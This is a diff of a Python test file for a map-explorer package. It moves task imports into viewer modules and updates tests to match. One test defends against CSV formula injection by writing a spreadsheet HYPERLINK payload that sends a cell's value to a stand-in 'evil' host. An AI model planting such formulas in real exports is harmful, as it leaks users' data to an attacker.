@@ -22,10 +22,11 @@ from benchmarks.literature import write_made_up_atlas
 from landscape import Atlas
 from landscape.errors import InputError, LandscapeError
 from landscape.viewer import MapSource
+from landscape.viewer import exploring as work
+from landscape.viewer import selection as selecting
 from landscape.viewer.columns import colours_of
 from landscape.viewer.state import inside, passing
 from landscape.widgets import MapExplorer
-from landscape.widgets import _explorer_tasks as work
 
 
 def from_page(explorer: MapExplorer, **state: Any) -> None:
@@ -372,7 +373,7 @@ def test_a_result_of_another_selection_is_not_shown(
     explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     explorer.select("2010..")
-    with held_up(monkeypatch, work, "compare_with_rest") as until_begun:
+    with held_up(monkeypatch, selecting, "compare_with_rest") as until_begun:
         explorer.map._hear(explorer.map, {"do": "compare"}, [])
         until_begun()
         explorer.select("..2005")
@@ -447,7 +448,9 @@ def test_a_selection_as_csv_has_no_formulas(demo_atlas: Atlas) -> None:
 
     title = 'x,=HYPERLINK("http://evil/?"&B2;"click"),y'
     manifest = dataclasses.replace(demo_atlas.manifest, title=title)
-    written = work.papers_as_csv(dataclasses.replace(demo_atlas, manifest=manifest), np.arange(3))
+    written = selecting.papers_as_csv(
+        dataclasses.replace(demo_atlas, manifest=manifest), np.arange(3)
+    )
     assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(written)) for cell in row)
     assert pd.read_csv(io.StringIO(written)).columns[:2].tolist() == ["paper_id", "title"]
 
